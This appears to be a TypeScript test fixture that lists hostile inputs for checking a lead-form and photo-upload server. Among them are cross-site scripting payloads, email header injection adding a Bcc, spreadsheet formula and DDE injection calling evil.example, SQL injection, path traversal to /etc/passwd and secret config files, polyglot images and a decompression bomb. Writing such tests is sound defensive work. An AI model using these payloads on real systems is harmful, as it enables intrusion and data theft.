import { randomUUID } from 'node:crypto'
import { deflateSync } from 'node:zlib'
import { phonePhoto } from '../photos.ts'
import { jpegBytes } from '../requests.ts'

const megabyte = 1024 * 1024
const script = '"><script>hostilemark()</script>'

/** Text that would act in a page, a mail, a spreadsheet or a log if nothing were done about it. */
export const texts: Readonly<Record<string, string | Uint8Array>> = {
  'a script': script,
  'an image that acts': `'><img src=x onerror=hostilemark()>`,
  'a drawing that acts': '</textarea></title><svg/onload=hostilemark()>',
  'an attribute': '" autofocus onfocus="hostilemark()" x="',
  'a link that acts': 'javascript:hostilemark()',
  'a template': '{{hostilemark}} <%= hostilemark %> #{hostilemark} $& $` $1 $<hostilemark>',
  'CRLF and a Bcc': 'Riverton\r\nBcc: hostilemark@evil.example\r\nSubject: hostilemark',
  'a lone line feed and a head line': 'Riverton\nX-Hostilemark: 1\n\nhostilemark',
  'a lone carriage return': 'Riverton\rBcc: hostilemark@evil.example',
  'Unicode line ends': 'Riverton\u2028Bcc: hostilemark@evil.example\u2029\u0085X-Hostilemark: 1',
  'a NUL': 'Li\0sle\0',
  'every control character': `Riverton${Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join('')}\x7f\x80\x9f`,
  'direction overrides': '\u202eelsiL\u202c \u2066\u2067\u2068\u2069\u200f\u061c\u200b\ufeff',
  'a formula': '=HYPERLINK("http://evil.example/?hostilemark","x")',
  'a formula with a plus': '+1+cmd|hostilemark',
  'a formula with an at sign': '@SUM(hostilemark)',
  'a formula after a tab': '\t=hostilemark',
  'a wide formula': '\uff1d1+hostilemark',
  'invalid UTF-8': Buffer.from('4c69ff73fe6c65c08080', 'hex'),
  'lone surrogates': Buffer.from('4c69eda080736c65edbfbf', 'hex'),
}

/** More than a field may have, and more than the server reads. */
export const longTexts: readonly (readonly [text: string, status: number])[] = [
  ['<a "\'&>'.repeat(1900), 422],
  [`L${'\u0301\u0316'.repeat(500_000)}`, 413],
]

/** Names that objects have themselves, or that the server uses. */
export const names: readonly string[] = ['__proto__', 'constructor', 'then', 'key', 'form', 'extra-line']

export const keys: Readonly<Record<string, string>> = {
  empty: '',
  'of 15 KB': 'k'.repeat(15_000),
  'with a path': '../../spool/x/../../y',
  'with a NUL': `${randomUUID()}\0`,
  'with a line break': `${randomUUID()}\r\nx: y`,
  'for SQL': "';DROP TABLE leads;--aaaaaa",
  'with markup': script,
  'named like a property': '__proto____proto__',
}

/** Content types for a whole multipart body whose boundary is `hostile`, with what it may be answered. */
export const types: readonly (readonly [type: string, statuses: readonly number[]])[] = [
  ['multipart/form-data', [400]],
  ['multipart/form-data; boundary=', [400]],
  ['multipart/form-data; boundary=another', [400]],
  ['multipart/form-data; boundary="hostile', [303, 400]],
  [`multipart/form-data; boundary=${'x'.repeat(5000)}`, [400]],
  ['multipart/form-data; boundary=hostile; boundary=another', [303, 400]],
  ['multipart/form-data; charset=utf-7; boundary=hostile', [303]],
  ['multipart/mixed; boundary=hostile', [415]],
  ['application/json', [415]],
  ['application/x-www-form-urlencoded', [400, 422]],
  [';;;', [415]],
]

const disposition = 'Content-Disposition: form-data'

/** Heads of a part as no library would write them. */
export const partHeads: readonly string[] = [
  `${disposition}; name="x"\r\nX-Long: ${'y'.repeat(100_000)}`,
  `${disposition}; name="x"${'\r\nX-A: b'.repeat(10_000)}`,
  '',
  disposition,
  `${disposition}; name=phone`,
  `${disposition}; name="a"; name="phone"`,
  `${disposition}; name="a"\r\n${disposition}; name="b"`,
  `${disposition}; name="a\0phone"`,
  `${disposition}; name="junk-photos"\r\nContent-Type: multipart/mixed; boundary=inner`,
]

const page = '<!doctype html><script>hostilemark()</script>'
const latin = (text: string) => Buffer.from(text, 'latin1')
const jpeg = await phonePhoto({ seed: 1 }).jpeg().toBuffer()
const png = await phonePhoto({ seed: 2 }).png().toBuffer()
const webp = await phonePhoto({ seed: 3 }).webp().toBuffer()
const after = (bytes: Buffer, at: number, more: Buffer) =>
  Buffer.concat([bytes.subarray(0, at), more, bytes.subarray(at)])
const chunk = (type: string, data: Buffer) => {
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  return Buffer.concat([length, latin(type), data, Buffer.alloc(4)])
}
const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, page.length + 2]), latin(page)])
const vast = Buffer.from(png)
vast.writeUInt32BE(0xffffffff, 16)

/** Files, and whether one is taken: as the picture that is left of it. */
export const files: readonly {
  readonly name: string
  readonly isTaken: boolean
  readonly bytes: Uint8Array
  readonly type?: string
}[] = [
  { name: 'a JPEG with a page behind its end', isTaken: true, bytes: Buffer.concat([jpeg, latin(page)]) },
  { name: 'a JPEG with a page as comment', isTaken: true, bytes: after(jpeg, 2, comment) },
  { name: 'a JPEG with a page among its pixels', isTaken: false, bytes: after(jpeg, jpeg.length - 2, latin(page)) },
  { name: 'a PNG with a page as text', isTaken: true, bytes: after(png, 33, chunk('tEXt', latin(page))) },
  {
    name: 'a PNG with a packed text of 60 MB',
    isTaken: true,
    bytes: after(png, 33, chunk('zTXt', Buffer.concat([latin('x\0\0'), deflateSync(Buffer.alloc(60 * megabyte))]))),
  },
  { name: 'a PNG of 4 billion by 48', isTaken: false, bytes: vast },
  { name: 'a WebP with a page behind its end', isTaken: true, bytes: Buffer.concat([webp, latin(page)]) },
  { name: 'half a WebP', isTaken: false, bytes: webp.subarray(0, webp.length >> 1) },
  {
    name: 'a PDF that begins like a JPEG',
    isTaken: false,
    bytes: Buffer.concat([jpeg.subarray(0, 4), latin('%PDF-1.7\n')]),
  },
  {
    name: 'a drawing with a script',
    isTaken: false,
    bytes: latin('<svg xmlns="http://www.w3.org/2000/svg" onload="hostilemark()"/>'),
  },
  { name: 'a HEIC picture', isTaken: false, bytes: latin('\0\0\0\x18ftypheic\0\0\0\0'), type: 'image/heic' },
  { name: 'a file of no bytes', isTaken: false, bytes: Buffer.alloc(0) },
  { name: '8 MB and a byte', isTaken: false, bytes: jpegBytes(1, 8 * megabyte + 1) },
  { name: 'a JPEG that says it is a page', isTaken: true, bytes: jpeg, type: 'text/html' },
]

export const fileNames: readonly string[] = [
  '../../etc/passwd',
  'a\tb\x07\x1b[31m.jpg',
  '<script>hostilemark()</script>.jpg',
  'x'.repeat(10_000),
  '=cmd|hostilemark!A1.jpg',
  '\u202egpj.exe',
  '__proto__',
]

export const origins: readonly string[] = ['https://evil.example', 'null', 'http://', 'javascript:hostilemark()']

export const headers: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  'another host': { host: 'evil.example', 'x-forwarded-host': 'evil.example', forwarded: 'host=evil.example' },
  'another path': { 'x-original-url': '/lead-photos', 'x-rewrite-url': '/lead-photos' },
  'another method': { 'x-http-method-override': 'DELETE' },
  'markup as address': { 'cf-connecting-ip': script },
  'an accept header of nonsense': { accept: ';q=;,q=NaN,*/*;q=-1,text/markdown;q=1e99' },
  'a thousand validators': { 'if-none-match': 'W/"x",'.repeat(1000) },
  'a range': { range: 'bytes=-1,0-,99999999999-1' },
  'markup as language and referrer': { 'accept-language': script, referer: `https://x.example/${script}` },
}

/** Values for a query's parameter besides the texts. */
export const values: readonly string[] = ['__proto__', 'valueOf', '-1', '1e9', '٣', 'NaN', 'x'.repeat(1000), '../../x']

/** Queries, as they are written. */
export const queries: readonly string[] = [
  '%',
  '%ff%fe',
  '&&&=',
  '__proto__[x]=1',
  'a=1&'.repeat(1000),
  '%00=%00',
  encodeURI(script),
]

/** Paths, as they are written: a client would change some of them. */
export const paths: readonly string[] = [
  '/../../etc/passwd',
  '/%2e%2e/%2e%2e/etc/passwd',
  '/..%2f..%2fwrangler.toml',
  '/..%5c..%5cwrangler.toml',
  '//evil.example/%2e%2e',
  '///evil.example/',
  '/\\evil.example/',
  '/%5cevil.example/..',
  '/about%00',
  '/about%0d%0aX-Hostilemark:%201',
  '/%0d%0aLocation:%20https://evil.example',
  '/%ff',
  '/%',
  '/about;x=1',
  '/ABOUT',
  '/.git/config',
  '/.dev.vars',
  '/spool/7K2M9QX4RD.json',
  '/assets/%2e%2e/wrangler.toml',
  '/blog/%3Cscript%3Ehostilemark()%3C/script%3E',
  '/service-areas/constructor',
  '/__proto__.md',
  '/request-received/%22%3E%3Cscript%3Ehostilemark()%3C%2Fscript%3E',
  `/${'a/'.repeat(2000)}`,
  'http://evil.example/about',
]
